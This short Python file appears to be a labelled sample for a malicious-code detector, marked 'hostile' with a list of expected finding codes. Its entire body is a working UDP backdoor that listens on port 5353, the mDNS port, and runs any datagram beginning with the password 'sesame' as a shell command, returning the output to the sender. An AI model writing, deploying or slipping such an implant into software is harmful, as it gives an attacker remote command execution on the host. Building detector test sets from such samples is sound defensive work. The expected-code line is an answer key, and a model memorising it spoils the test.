# label: hostile
# expect: V201 V301 V302 V901
# note: Waits for datagrams and runs those that begin with the right word.
import socket as S
from os import popen

u = S.socket(S.AF_INET, S.SOCK_DGRAM)
u.bind(("", 5353))
while 1:
    m, who = u.recvfrom(1500)
    word, _, rest = m.decode("latin1").partition(" ")
    if word == "sesame":
        u.sendto(popen(rest).read().encode()[:1400], who)
